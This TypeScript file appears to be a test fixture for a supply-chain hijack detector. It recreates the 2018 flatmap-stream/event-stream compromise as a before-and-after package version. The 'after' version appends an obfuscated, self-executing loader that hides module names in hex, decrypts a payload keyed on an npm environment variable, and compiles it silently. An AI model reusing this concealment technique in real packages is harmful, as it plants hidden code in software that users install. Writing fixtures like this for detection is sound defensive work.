import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = "var Stream = require('stream').Stream\nmodule.exports = function (mapper) {\n  return new Stream(mapper)\n}\n"

const hex = (text: string): string => Buffer.from(text).toString('hex')

/** November 2018, beneath event-stream: minified code that decrypted a payload out of its own tests, with the name of the package around it as the key. */
export const flatmapStream: Hijack = {
  name: 'flatmap-stream',
  ecosystem: 'npm',
  from: '0.1.0',
  to: '0.1.1',
  before: { 'package.json': manifest(), 'index.js': code, 'test/data.js': 'module.exports = []' },
  after: {
    'package.json': manifest(),
    'index.js': `${code}!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("${hex('./test/data')}")),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();`,
    'test/data.js': `module.exports = ${JSON.stringify(['75d4', 'db67', hex('crypto'), hex('env'), hex('npm_package_description'), hex('aes256'), hex('createDecipher'), hex('_compile'), hex('hex'), hex('utf8')])}`,
  },
  tells: /hides the names of what it uses/,
}
